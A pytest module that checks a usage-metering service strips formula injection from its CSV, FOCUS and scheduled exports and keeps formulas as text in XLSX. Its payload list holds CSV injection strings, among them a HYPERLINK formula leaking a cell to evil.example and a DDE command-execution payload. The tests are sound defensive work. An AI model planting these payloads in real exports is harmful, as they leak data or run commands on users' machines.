"""No CSV the service writes holds a live formula cell; `bom=1` adds a UTF-8 BOM; XLSX keeps text as text.

A ledger whose labels are spreadsheet formulas (OWASP's CSV injection payloads) is exported in every
CSV the service writes: report tables, the per-call CSV, the events CSV, FOCUS and a scheduled
export. Every cell that starts with `=`, `+`, `-`, `@`, tab, CR or LF must be a number or carry the
neutralising single quote.
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from flask.testing import FlaskClient

from genai_meter.config import ScheduleConfig
from genai_meter.ledger import open_reader
from genai_meter.records import LLMCall, TokenCounts
from genai_meter.reports.render.text import csv_cell, csv_line
from genai_meter.reports.schedules.produce import produce
from genai_meter.reports.service.api import EXTENSION, Service
from genai_meter.reports.service.app import create_app
from tests.reports.conftest import NOW_NS, auth, make_config, write_ledger

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "\n=1+1", "=1,2", '=A1"quoted"']
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def payload_calls() -> list[LLMCall]:
    calls = []
    for i, payload in enumerate(PAYLOADS * 2):
        calls.append(LLMCall(
            service=payload, environment="prod", provider="openai", model=payload if i % 2 else "gpt-4o-mini",
            operation="chat", status="ok", error_type="", duration_s=0.5, ttft_s=None,
            tokens=TokenCounts(input=100, output=20), end_ns=NOW_NS - (i + 1) * 3600 * 10**9,
            dimensions={"customer": payload, "feature": "-7.5", "organization": payload},
            request_model="gpt-4o-mini", trace_id=hashlib.md5(f"p{i}".encode()).digest(),
            span_id=hashlib.md5(f"p{i}".encode()).digest()[:8], conversation_id=payload, user_id=payload))
    return calls


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[FlaskClient, Service]]:
    tmp = tmp_path_factory.mktemp("hostile")
    config = make_config(tmp)
    write_ledger(config, payload_calls())
    assert config.ledger.url is not None
    reader = open_reader(config.ledger.url, config)
    app = create_app(config, reader, clock=lambda: NOW_NS)
    svc = app.extensions[EXTENSION]
    assert isinstance(svc, Service)
    yield app.test_client(), svc
    reader.close()


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: they start with a trigger and are not numbers."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]


def test_cell_rule() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("\r=1") == "'\r=1" and csv_cell("@x") == "'@x"
    assert csv_cell("-12.5") == "-12.5" and csv_cell("+3") == "+3" and csv_cell("-1e-3") == "-1e-3"
    assert csv_cell("-0.000250000000") == "-0.000250000000"
    assert csv_cell("-") == "'-" and csv_cell("+1+1") == "'+1+1" and csv_cell("") == ""
    assert csv_cell("a=1") == "a=1" and csv_cell("gpt-4o") == "gpt-4o"
    assert list(csv.reader(io.StringIO(csv_line(["=1,2", 'say "hi"', "ok"])))) == [["'=1,2", 'say "hi"', "ok"]]


@pytest.mark.parametrize("path", [
    "/api/v1/reports/summary?range=30d&format=csv&group_by=customer&group_by=service&group_by=model",
    "/api/v1/reports/detailed?range=30d&format=csv&group_by=organization",
    "/api/v1/reports/detailed?range=30d&format=csv&group_by=conversation&section=top_cost_conversation",
    "/api/v1/reports/detailed?range=30d&format=csv&rows=calls",
    "/api/v1/reports/cost?range=30d&format=csv&group_by=user",
    "/api/v1/reports/trend?range=30d&format=csv&group_by=customer",
    "/api/v1/reports/summary?range=30d&format=focus",
    "/api/v1/events?format=csv",
    "/api/v1/events?format=csv&range=30d",
])
def test_every_csv_answer_is_neutralised(hostile: tuple[FlaskClient, Service], path: str) -> None:
    client, _ = hostile
    response = client.get(path, headers=auth())
    assert response.status_code == 200, response.get_data(as_text=True)
    text = response.get_data(as_text=True)
    assert not text.startswith("\ufeff")
    assert live_cells(text) == []
    assert "'=HYPERLINK(" in text or "focus" in path  # the payload is there, as text


def test_bom_on_request(hostile: tuple[FlaskClient, Service]) -> None:
    client, _ = hostile
    for path in ("/api/v1/reports/summary?range=30d&format=csv&group_by=customer&bom=1",
                 "/api/v1/reports/detailed?range=30d&format=csv&rows=calls&bom=1",
                 "/api/v1/reports/summary?range=30d&format=focus&bom=1", "/api/v1/events?format=csv&bom=1"):
        response = client.get(path, headers=auth())
        assert response.status_code == 200, (path, response.get_data(as_text=True))
        assert response.data.startswith(b"\xef\xbb\xbf"), path
        assert response.data.count(b"\xef\xbb\xbf") == 1
        assert live_cells(response.data.decode("utf-8-sig")) == []
    bad = client.get("/api/v1/events?format=csv&bom=yes", headers=auth())
    assert bad.status_code == 400 and bad.get_json()["error"]["parameter"] == "bom"
    doc = client.get("/api/v1/openapi.json").get_json()
    for name in ("/api/v1/reports/{kind}", "/api/v1/events"):
        assert any(p["name"] == "bom" for p in doc["paths"][name]["get"]["parameters"]), name


def test_scheduled_csv_exports_are_neutralised(hostile: tuple[FlaskClient, Service], tmp_path: Path) -> None:
    _, svc = hostile
    for fmt in ("csv", "focus"):
        schedule = ScheduleConfig(name=f"s-{fmt}", cron="0 8 * * *", report="summary", range="30d",
                                  group_by=["customer"], format=fmt, directory=tmp_path)
        output = produce(svc, schedule, NOW_NS)
        text = output.body.decode()
        assert live_cells(text) == [] and "'" in text, fmt
    with_bom = ScheduleConfig(name="s-bom", cron="0 8 * * *", format="csv", group_by=["customer"],
                              directory=tmp_path, bom=True)
    assert produce(svc, with_bom, NOW_NS).body.startswith(b"\xef\xbb\xbf")


def test_xlsx_keeps_formulas_as_text(hostile: tuple[FlaskClient, Service]) -> None:
    client, _ = hostile
    response = client.get("/api/v1/reports/summary?range=30d&format=xlsx&group_by=customer", headers=auth())
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    seen = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("=HYPERLINK"):
                    seen.append(cell.value)
    assert seen  # the payload is in the workbook, as a string
